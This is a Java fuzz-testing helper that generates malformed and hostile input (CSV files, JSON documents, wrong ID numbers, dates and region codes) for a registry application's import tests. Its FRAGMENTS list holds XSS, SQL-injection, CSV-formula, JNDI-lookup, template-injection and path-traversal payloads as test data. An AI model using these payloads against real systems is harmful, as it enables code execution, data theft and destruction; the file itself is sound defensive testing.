package id.terpadu.hostile;

import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generators of hostile but structured input for the fuzz tests (docs/adr/0032-hostile-input.md): text with
 * quotes, separators, line breaks, control characters, byte order marks, markup, formulas, template and lookup
 * syntax, surrogate pairs and huge lengths; plausible-looking but wrong NIKs, dates and region codes; CSV files and
 * JSON documents built from them.
 */
public final class HostileStrings {

  /** Fragments an attacker or a broken spreadsheet puts into free text. */
  public static final List<String> FRAGMENTS = List.of("\"", "'", ",", ";", "\t", "\r", "\n", "\r\n", "\u0000",
      "\u0007", "\u001b[31m", "\u007f", "\uFEFF", "\u200b", "\u202e", "\uD83D\uDE00", "\uD800", "\uDFFF", "\\",
      "\\u0000", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
      "javascript:alert(1)", "=HYPERLINK(\"http://x.invalid\",\"klik\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
      "@SUM(1)", "${jndi:ldap://x.invalid/a}", "#{7*7}", "{{7*7}}", "%s%n%x", "' OR '1'='1", "'; DROP TABLE x;--",
      "../../etc/passwd", "NaN", "-0", "1e309", "null", "true", "[]", "{}", "Ω", "İ", "ß", "ﬀ", "é", "\u0301");

  private HostileStrings() {}

  /** Free text: hostile fragments mixed with ordinary words, now and then very long. */
  public static Arbitrary<String> text() {
    Arbitrary<String> piece = Arbitraries.oneOf(Arbitraries.of(FRAGMENTS),
        Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(12),
        Arbitraries.strings().all().ofMaxLength(6));
    Arbitrary<String> mixed = piece.list().ofMaxSize(8).map(parts -> String.join("", parts));
    Arbitrary<String> huge = Arbitraries.of("a", "\"", "<b>", "=1", "\uD83D\uDE00", " ")
        .flatMap(s -> Arbitraries.integers().between(300, 70_000).map(s::repeat));
    return Arbitraries.frequencyOf(Tuple.of(12, mixed), Tuple.of(1, huge), Tuple.of(1, Arbitraries.just("")));
  }

  /** A value for a typed field: text, or something that looks almost right (NIK, date, code, phone). */
  public static Arbitrary<String> fieldValue() {
    Arbitrary<String> digits = Arbitraries.strings().numeric().ofMinLength(1).ofMaxLength(20);
    Arbitrary<String> nikLike = Combinators.combine(Arbitraries.of("3504", "0000", "9999", "3599"),
        Arbitraries.strings().numeric().ofLength(12)).as(String::concat);
    Arbitrary<String> date = Arbitraries.of("2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "1899-12-31",
        "31-12-2010", "2010/03/14", "2010-3-4", "+2010-03-14", "2010-03-14T00:00:00Z", "14 Maret 2010", "tomorrow",
        "2010-03-14\u0000", "-2010-03-14", "2010-03-14 ");
    Arbitrary<String> code = Arbitraries.of("3504011001", "3504", "350401", "3503012001", "35", "3504011001 ",
        "350401100", "35040110011", "３５０４０１１００１", "3504011001;DROP", "L", "P", "X", "l", "");
    return Arbitraries.oneOf(text(), digits, nikLike, date, code);
  }

  /** One import row of about {@code columns} fields (sometimes one too few or too many). */
  public static Arbitrary<List<String>> importRow(int columns) {
    return Arbitraries.integers().between(Math.max(1, columns - 1), columns + 1)
        .flatMap(n -> fieldValue().list().ofSize(n));
  }

  /** A CSV file: the header (maybe with a BOM, either separator, odd line ends), rows of hostile fields. */
  public static Arbitrary<String> csvLines(List<String> header) {
    Arbitrary<String> separator = Arbitraries.of(",", ";");
    Arbitrary<String> lineEnd = Arbitraries.of("\n", "\r\n", "\r");
    Arbitrary<Boolean> bom = Arbitraries.of(true, false);
    Arbitrary<Boolean> quoteAll = Arbitraries.of(true, false);
    Arbitrary<List<List<String>>> rows = importRow(header.size()).list().ofMaxSize(6);
    return Combinators.combine(separator, lineEnd, bom, quoteAll, rows).as((sep, end, withBom, quoted, body) -> {
      StringBuilder csv = new StringBuilder(withBom ? "\uFEFF" : "").append(String.join(sep, header)).append(end);
      for (List<String> row : body) {
        csv.append(String.join(sep, row.stream()
            .map(v -> quoted || v.contains(sep) ? "\"" + v.replace("\"", "\"\"") + "\"" : v).toList())).append(end);
      }
      return csv.toString();
    });
  }

  /** Any JSON value, nested up to {@code depth} levels, with hostile strings and numbers. */
  public static Arbitrary<Object> jsonValue(int depth) {
    Arbitrary<Object> leaf = Arbitraries.oneOf(fieldValue().map(s -> (Object) s), Arbitraries.of(
        (Object) Boolean.TRUE, Boolean.FALSE, 0, -1, Long.MAX_VALUE, 1.5e308, "", new java.math.BigDecimal("1e400")),
        Arbitraries.just(null));
    Arbitrary<String> keys = Arbitraries.oneOf(Arbitraries.of("name", "nik", "description", "child", "reporter"),
        Arbitraries.strings().ofMaxLength(5));
    return Arbitraries.recursive(() -> leaf, inner -> Arbitraries.oneOf(inner,
        inner.list().ofMaxSize(4).map(l -> (Object) l),
        Arbitraries.maps(keys, inner).ofMaxSize(4).map(m -> (Object) m)), depth);
  }

  /** A JSON object shaped like {@code template} (its keys, nested the same way) with hostile values swapped in. */
  @SuppressWarnings("unchecked")
  public static Arbitrary<Object> shapedLike(Object template) {
    if (template instanceof Map<?, ?> map) {
      Arbitrary<Object> kept = Arbitraries.just(null);
      Arbitrary<Map<String, Object>> result = Arbitraries.just(new java.util.LinkedHashMap<>());
      for (Map.Entry<?, ?> e : map.entrySet()) {
        String key = (String) e.getKey();
        Arbitrary<Object> value = Arbitraries.frequencyOf(Tuple.of(5, shapedLike(e.getValue())),
            Tuple.of(2, Arbitraries.just(e.getValue())), Tuple.of(1, jsonValue(2)), Tuple.of(1, kept));
        result = Combinators.combine(result, value).as((m, v) -> {
          Map<String, Object> copy = new java.util.LinkedHashMap<>(m);
          copy.put(key, v);
          return copy;
        });
      }
      return result.map(m -> (Object) m);
    }
    if (template instanceof List<?> list) {
      return (list.isEmpty() ? fieldValue().map(s -> (Object) s) : shapedLike(list.get(0))).list().ofMaxSize(4)
          .map(l -> (Object) l);
    }
    if (template instanceof Boolean) {
      return Arbitraries.oneOf(Arbitraries.of((Object) true, false), jsonValue(0));
    }
    return fieldValue().map(s -> (Object) s);
  }
}
